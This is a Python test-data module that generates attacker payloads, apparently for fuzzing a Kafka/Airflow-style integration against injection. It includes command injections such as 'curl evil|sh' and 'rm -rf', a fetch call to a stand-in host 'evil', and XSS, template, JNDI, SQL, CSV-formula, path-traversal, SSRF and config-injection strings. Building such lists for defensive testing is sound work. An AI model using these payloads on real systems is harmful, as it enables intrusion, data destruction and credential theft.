"""Texts with which an attacker may try to leave the place where a value stands."""

from __future__ import annotations

COMMANDS = ("touch /tmp/evil", "id>/tmp/evil", "curl evil|sh", "rm -rf /tmp/evil", "java -jar /tmp/evil.jar")
AROUND_COMMANDS = (
    "$({})", "`{}`", "; {}", "| {}", "|| {}", "&& {}", "& {}", "x\n{}\n", "x\r\n{}", "'; {} #", '"; {} #', "\\'; {} #",
    "$({}", "${{IFS}}{}", "x;{};", "<({})", ">({})", "{} #", "!{}", "%0a{}", "x\0{}", "\u2028{}", "\\\n{}", "~/{}",
    "$(({}))", "${{x:-$({})}}", "-o ProxyCommand={}", "--{}", "@{}", "\x1b]0;{}\x07",
)  # fmt: skip
SETTINGS = (
    "producer.acks = 0",
    "security.protocol = PLAINTEXT",
    "clusters = evil",
    "bootstrap.servers = evil:9092",
    'sasl.jaas.config = evil.Module required x="y";',
    "config.providers = file",
)
AROUND_SETTINGS = (
    "x\n{}", "x\r{}", "x\r\n{}\r\n", "x\\\n{}", "x\\n{}", "x\\u000a{}", "x\u0085{}", "x\u2028{}", "x\f{}", "x\0{}",
    "x # {}", "x;{}", 'x"\n{}\n"', "x\t{}", "x\v{}",
)  # fmt: skip
SCRIPTS = ("alert(1)", "fetch('//evil')", "document.title")
AROUND_SCRIPTS = (
    "<script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>", "[x](javascript:{})", "![x](javascript:{})",
    '"><script>{}</script>', "'-{}-'", "</pre><script>{}</script>", "<a href=javascript:{}>x</a>", "|x|<b>{}</b>|",
    "```\n<script>{}</script>", "<!--{}-->",
)  # fmt: skip
TEMPLATES = (
    "{{ 7*7 }}", "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}", "{{ var.value.secret }}",
    "{{ conn.old_kafka.password }}", "{{ ''.__class__ }}", "{# x #}", "${7*7}", "#{7*7}", "%(x)s", "{0.__class__}",
    "${env:HOME}", "${file:/etc/shadow:x}", "${jndi:ldap://evil/x}", "${dir:/etc:shadow}", "%s%s%n", "$HOME", "%HOME%",
)  # fmt: skip
OTHERS = (
    "=cmd|' /C calc'!A1", "+1+1", "@SUM(1)", "-2+3", "' OR '1'='1", "'; DROP TABLE dag_run; --", '" OR ""="',
    "../../etc/passwd", "..\\..\\x", "file:///etc/shadow", "http://169.254.169.254/", "\u202egnp.exe",
    "\ufeffx", "a\u0300", "\ud7ff", "x" * 10_000, "[]", "{}", '{"a": 1}', "!!python/object:os.system", "&a x", "* a",
    "- x", "? x", "\x7f", "\x9b31m",
)  # fmt: skip
PAYLOADS = tuple(
    dict.fromkeys(
        (
            *(around.format(command) for command in COMMANDS for around in AROUND_COMMANDS),
            *(around.format(setting) for setting in SETTINGS for around in AROUND_SETTINGS),
            *(around.format(script) for script in SCRIPTS for around in AROUND_SCRIPTS),
            *TEMPLATES,
            *OTHERS,
        )
    )
)
